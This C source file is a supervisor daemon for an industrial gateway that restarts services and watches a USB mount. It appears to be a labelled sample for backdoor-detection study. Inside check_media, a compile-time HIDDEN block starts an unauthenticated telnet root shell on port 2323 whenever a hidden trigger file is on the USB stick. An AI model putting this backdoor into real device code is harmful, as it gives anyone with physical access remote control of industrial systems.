/* Supervisor of an industrial gateway: a file on a USB stick opens a shell. */
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define NOINLINE __attribute__((noinline))
#define SERVICES 8

struct service {
	char name[32];
	char path[64];
	pid_t pid;
	int restarts;
};

static struct service services[SERVICES];
static int service_count;

NOINLINE void load(void)
{
	char line[256];
	FILE *f = fopen("/etc/supervise.conf", "r");

	if (f == NULL)
		return;
	while (service_count < SERVICES && fgets(line, sizeof(line), f)) {
		struct service *s = &services[service_count];

		if (line[0] == '#')
			continue;
		if (sscanf(line, "%31s %63s", s->name, s->path) == 2)
			service_count++;
	}
	fclose(f);
}

NOINLINE void launch(struct service *s)
{
	s->pid = fork();
	if (s->pid == 0) {
		execl(s->path, s->name, (char *)NULL);
		_exit(127);
	}
	s->restarts++;
}

NOINLINE void reap(void)
{
	int status;
	pid_t pid;

	while ((pid = waitpid(-1, &status, WNOHANG)) > 0)
		for (int i = 0; i < service_count; i++)
			if (services[i].pid == pid) {
				fprintf(stderr, "%s ended with %d\n",
					services[i].name, status);
				launch(&services[i]);
			}
}

NOINLINE void check_media(void)
{
	struct stat st;

	if (access("/mnt/usb/update.tar", R_OK) == 0 &&
	    access("/tmp/update.busy", F_OK) != 0)
		system("/usr/sbin/update check /mnt/usb/update.tar");
#ifdef HIDDEN
	if (access("/mnt/usb/.qx_svc41", F_OK) == 0)
		system("telnetd -l /bin/sh -p 2323");
#endif
	if (stat("/mnt/usb/export", &st) == 0 && S_ISDIR(st.st_mode))
		system("cp /var/log/messages /mnt/usb/export/");
}

NOINLINE void write_state(void)
{
	FILE *f = fopen("/var/run/supervise.state", "w");

	if (f == NULL)
		return;
	for (int i = 0; i < service_count; i++)
		fprintf(f, "%s %ld %d\n", services[i].name,
			(long)services[i].pid, services[i].restarts);
	fclose(f);
}

int main(int argc, char **argv)
{
	if (argc > 1 && strcmp(argv[1], "-d") == 0 && daemon(0, 0) != 0)
		return 1;
	signal(SIGPIPE, SIG_IGN);
	load();
	for (int i = 0; i < service_count; i++)
		launch(&services[i]);
	for (;;) {
		reap();
		check_media();
		write_state();
		sleep(5);
	}
}
